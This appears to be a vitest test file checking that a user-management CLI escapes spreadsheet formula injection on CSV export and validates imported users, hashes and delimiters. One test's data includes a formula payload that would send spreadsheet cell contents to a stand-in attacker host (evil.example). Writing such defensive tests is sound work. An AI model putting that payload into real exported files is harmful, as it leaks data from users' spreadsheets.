/**
 * Issue 35 (findings 6 and 7) and issue 36 (item 6): `latchkey users export --format csv` writes cells
 * that a spreadsheet would run as text, and `latchkey users import` holds each line to `POST /users`'
 * field rules and the minimum hash parameters, reads the headers and delimiters spreadsheets write,
 * needs an e-mail column unless told otherwise, and says (with --dry-run, without writing) what it
 * does. The CLI runs as a child process on a server's database, on both dialects.
 */
import { mkdtempSync, rmSync, writeFileSync, existsSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import bcrypt from "bcryptjs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testDialects } from "../support/databases.js";
import type { ServerProcess } from "../support/server-process.js";
import { api, cli, sql, startServer, type Run } from "./users-support.js";

const json = (run: Run) => JSON.parse(run.stdout) as any;
/** An argon2id PHC string at the given parameters (the hash itself is never checked at import). */
const argon2 = (params: string) => `$argon2id$v=19$${params}$c29tZXNhbHRzb21lc2FsdA$aGFzaGhhc2hoYXNoaGFzaGhhc2hoYXNoaGFzaA`;
const strongBcrypt = bcrypt.hashSync("an old strong password", 10);

describe.each(testDialects)("users import rules and CSV safety (%s)", (dialect) => {
  let server: ServerProcess;
  const dir = mkdtempSync(join(tmpdir(), "latchkey-import-rules-"));
  let fileNumber = 0;
  const file = (name: string, text: string) => {
    const path = join(dir, `${++fileNumber}-${name}`);
    writeFileSync(path, text);
    return path;
  };
  const importFile = (path: string, ...args: string[]) => cli(server, ["--json", "users", "import", path, "--project", "internal", ...args], dir);
  const usersWithEmail = async (emails: string[]) =>
    (
      await sql<{ value: string; display_name: string | null; password_hash: string | null }>(
        server,
        `select c.value, u.display_name, u.password_hash from contact_channels c join users u on u.id = c.user_id where c.project_id = 'internal' and c.value in (${emails.map(() => "?").join(",")}) order by c.value`,
        emails,
      )
    ).map((r) => r.value);
  const countUsers = async () => Number((await sql<{ n: number }>(server, "select count(*) as n from users where project_id = 'internal'"))[0]!.n);

  beforeAll(async () => {
    server = await startServer(dialect);
  });
  afterAll(async () => {
    await server?.[Symbol.asyncDispose]();
    rmSync(dir, { recursive: true, force: true });
  });

  it("exports cells a spreadsheet would run with a single quote in front, quoted, and imports them back as they were", async () => {
    const names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd"];
    for (const [i, display_name] of names.entries()) {
      const created = await api(server, "POST", "/users", "server", { primary_email: `formula-${i}@rules.example`, display_name, server_metadata: -1 - i });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
    }
    const exported = await cli(server, ["users", "export", "--project", "internal", "--format", "csv"], dir);
    expect(exported.code, exported.stderr).toBe(0);
    const rows = exported.stdout.split("\n").filter((row) => row.includes("@rules.example"));
    expect(rows).toHaveLength(names.length);
    for (const [i, name] of names.entries()) {
      const row = rows.find((r) => r.includes(`formula-${i}@`))!;
      expect(row).toContain(`,"'${name.replace(/"/g, '""')}",`);
      expect(row).toContain(`,"'${-1 - i}",`);
      // No cell of the row begins with a character a spreadsheet runs.
      expect(row.split(",").some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
    }

    // The export imports into another server as it was.
    const path = file("formula-export.csv", exported.stdout);
    await using other = await startServer(dialect);
    const imported = await cli(other, ["--json", "users", "import", path, "--project", "internal", "--allow-no-email"], dir);
    expect(imported.code, imported.stderr).toBe(0);
    const back = await sql<{ display_name: string; server_metadata: unknown }>(other, "select display_name, server_metadata from users where project_id = 'internal' order by display_name");
    expect(back.map((r) => r.display_name).sort()).toEqual([...names].sort());
    expect(back.map((r) => Number(typeof r.server_metadata === "string" ? JSON.parse(r.server_metadata) : r.server_metadata)).sort((a, b) => a - b)).toEqual([-4, -3, -2, -1]);
  }, 120_000);

  it("refuses a NUL byte, a 300-character display name and hashes below the minimum, line by line, writing nothing for them", async () => {
    const lines = [
      { primary_email: "nul@rules.example", display_name: "Ada\u0000Lovelace" },
      { primary_email: "long@rules.example", display_name: "x".repeat(300) },
      { primary_email: "weak-argon@rules.example", password_hash: argon2("m=1,t=1,p=1") },
      { primary_email: "weak-bcrypt@rules.example", password_hash: bcrypt.hashSync("pw", 4) },
      { primary_email: "short@rules.example", password: "short" },
      { primary_email: "fine@rules.example", display_name: "Fine", password_hash: strongBcrypt },
      { primary_email: "fine-argon@rules.example", password_hash: argon2("m=19456,t=2,p=1") },
    ];
    const before = await countUsers();
    const run = await importFile(file("rules.jsonl", lines.map((l) => JSON.stringify(l)).join("\n")));
    expect(run.code, run.stderr).toBe(65);
    const summary = json(run);
    expect(summary).toMatchObject({ read: 7, imported: 2, rejected: 5, weakHashes: 0 });
    expect(summary.rejectedLines).toEqual([
      { line: 1, reason: "display_name: must not contain control characters" },
      { line: 2, reason: "display_name: must be at most 256 characters" },
      { line: 3, reason: expect.stringMatching(/^password_hash: argon2 parameters m=1,t=1,p=1 are below the minimum .*--allow-weak-hashes/) },
      { line: 4, reason: expect.stringMatching(/^password_hash: bcrypt cost 4 is below the minimum of 10/) },
      { line: 5, reason: "password: must be at least 8 characters" },
    ]);
    // No reason carries the hash.
    expect(JSON.stringify(summary.rejectedLines)).not.toContain("c29tZXNhbHRzb21lc2FsdA");
    expect(await countUsers()).toBe(before + 2);
    expect(await usersWithEmail(lines.map((l) => l.primary_email))).toEqual(["fine-argon@rules.example", "fine@rules.example"]);
    // The strong foreign hash signs in.
    expect((await api(server, "POST", "/auth/password/sign-in", "client", { email: "fine@rules.example", password: "an old strong password" })).status).toBe(200);
  }, 60_000);

  it("imports hashes below the minimum with --allow-weak-hashes, each listed, and replaces them at the first sign-in", async () => {
    const weak = bcrypt.hashSync("a weak old password", 4);
    const run = await importFile(file("weak.jsonl", JSON.stringify({ primary_email: "allowed-weak@rules.example", password_hash: weak })), "--allow-weak-hashes");
    expect(run.code, run.stderr).toBe(0);
    expect(json(run)).toMatchObject({ imported: 1, rejected: 0, weakHashes: 1, weakHashLines: [{ line: 1, reason: "bcrypt cost 4 is below the minimum of 10" }] });
    const text = await cli(server, ["users", "import", file("weak-2.jsonl", JSON.stringify({ primary_email: "allowed-weak-2@rules.example", password_hash: weak })), "--project", "internal", "--allow-weak-hashes"], dir);
    expect(text.stdout).toContain("1 user was imported with a password hash below the minimum (--allow-weak-hashes), replaced at each one's first sign-in:\n  line 1: bcrypt cost 4");
    expect((await api(server, "POST", "/auth/password/sign-in", "client", { email: "allowed-weak@rules.example", password: "a weak old password" })).status).toBe(200);
    const [row] = await sql<{ h: string }>(server, "select u.password_hash as h from users u join contact_channels c on c.user_id = u.id where c.value = ?", ["allowed-weak@rules.example"]);
    expect(row!.h).toMatch(/^\$argon2id\$v=19\$m=19456,t=2,p=1\$/);
  }, 60_000);

  it("reads the header email,name,password and semicolon- and tab-separated files as spreadsheets write them", async () => {
    const files = [
      ["comma.csv", "email,name,password\nComma@Rules.example,Comma User,comma password 1\n", "comma"],
      ["semicolon.csv", "\uFEFFE-Mail;Display Name;Password;Favourite colour\r\nsemi@rules.example;Lovelace, Ada;semicolon password 1;blue\r\n", "semicolon"],
      ["tab.tsv", "primary_email\tdisplayName\tpassword_hash\ntab@rules.example\tTab User\t" + strongBcrypt + "\n", "tab"],
    ] as const;
    for (const [name, text, delimiter] of files) {
      const run = await importFile(file(name, text));
      expect(run.code, `${name}: ${run.stderr}`).toBe(0);
      expect(json(run), name).toMatchObject({ delimiter, imported: 1, rejected: 0 });
    }
    const semicolon = json(await importFile(file("semicolon-again.csv", files[1][1])));
    expect(semicolon).toMatchObject({ alreadyPresent: 1, renamedColumns: { "E-Mail": "primary_email" }, ignoredFields: ["Favourite colour"] });
    const text = await cli(server, ["users", "import", file("comma-again.csv", files[0][1]), "--project", "internal"], dir);
    expect(text.stdout).toContain("Columns read as: email → primary_email, name → display_name.");
    const users = await sql<{ value: string; display_name: string }>(
      server,
      "select c.value, u.display_name from contact_channels c join users u on u.id = c.user_id where c.value in ('comma@rules.example', 'semi@rules.example', 'tab@rules.example') order by c.value",
    );
    expect(users).toEqual([
      { value: "comma@rules.example", display_name: "Comma User" },
      { value: "semi@rules.example", display_name: "Lovelace, Ada" },
      { value: "tab@rules.example", display_name: "Tab User" },
    ]);
    for (const [email, password] of [
      ["comma@rules.example", "comma password 1"],
      ["semi@rules.example", "semicolon password 1"],
      ["tab@rules.example", "an old strong password"],
    ]) {
      expect((await api(server, "POST", "/auth/password/sign-in", "client", { email, password })).status, email).toBe(200);
    }
  }, 90_000);

  it("refuses a file without an e-mail column unless --allow-no-email, writing nothing", async () => {
    const path = file("no-email.csv", "name,password\nNo Mail,a password long enough\n");
    const before = await countUsers();
    const refused = await importFile(path);
    expect(refused.code).toBe(65);
    expect(refused.stdout).toBe("");
    expect(refused.stderr).toMatch(/^latchkey: Nothing imported from .*no-email\.csv: the header has no e-mail column .*"name", "password"\. Users without an e-mail are imported only with --allow-no-email\.\n$/);
    expect(await countUsers()).toBe(before);

    const allowed = await importFile(path, "--allow-no-email");
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(json(allowed)).toMatchObject({ imported: 1, rejected: 0 });
    expect(await countUsers()).toBe(before + 1);
    expect(await sql(server, "select id from users where project_id = 'internal' and display_name = 'No Mail'")).toHaveLength(1);
  }, 60_000);

  it("--dry-run prints what would be created, left and rejected, and writes nothing", async () => {
    await api(server, "POST", "/users", "server", { primary_email: "dry-existing@rules.example", primary_email_auth_enabled: true, display_name: "There already" });
    const lines = [
      "email;name;password_hash",
      `dry-1@rules.example;Dry One;${strongBcrypt}`,
      "dry-2@rules.example;Dry Two;",
      `dry-weak@rules.example;Weak;${argon2("m=1,t=1,p=1")}`,
      "dry-existing@rules.example;Clash;",
      "dry-1@rules.example;Twice;",
    ];
    const path = file("dry.csv", lines.join("\n") + "\n");
    const before = await countUsers();
    const run = await importFile(path, "--dry-run", "--batch-size", "2");
    expect(run.code, run.stderr).toBe(65);
    const summary = json(run);
    expect(summary).toMatchObject({ dryRun: true, delimiter: "semicolon", read: 5, imported: 2, alreadyPresent: 1, rejected: 2, rejectsFile: null });
    expect(summary.importedLines).toEqual([
      { line: 2, id: expect.any(String), primaryEmail: "dry-1@rules.example", displayName: "Dry One" },
      { line: 3, id: expect.any(String), primaryEmail: "dry-2@rules.example", displayName: "Dry Two" },
    ]);
    expect(summary.rejectedLines.map((r: { line: number }) => r.line)).toEqual([4, 5]);
    expect(summary.rejectedLines[1].reason).toMatch(/^primary_email dry-existing@rules\.example already signs in user /);
    // Line 6 is line 2's user again (the id is derived from the e-mail), two batches later: a dry run
    // remembers what it would have written, so it counts it as there already, as the import does.
    expect(await countUsers()).toBe(before);
    expect(existsSync(`${path}.rejected.jsonl`)).toBe(false);

    const text = await cli(server, ["users", "import", path, "--project", "internal", "--dry-run"], dir);
    expect(text.stdout).toContain("Dry run: nothing was written.");
    expect(text.stdout).toContain("would create 2 users in internal.\nColumns read as: email → primary_email, name → display_name.\nWould create:\n  line 2: dry-1@rules.example (Dry One)\n  line 3: dry-2@rules.example (Dry Two)");
    expect(text.stdout).toContain("1 user was there already and would be left as it is (an import never updates a user).");
    expect(text.stdout).toContain("Would reject 2 lines:\n  line 4: password_hash: argon2 parameters m=1,t=1,p=1");
    expect(await countUsers()).toBe(before);

    // The same file, for real: what the dry run said.
    const real = json(await importFile(path));
    expect(real).toMatchObject({ dryRun: false, imported: 2, alreadyPresent: 1, rejected: 2 });
    expect(await countUsers()).toBe(before + 2);
  }, 90_000);
});
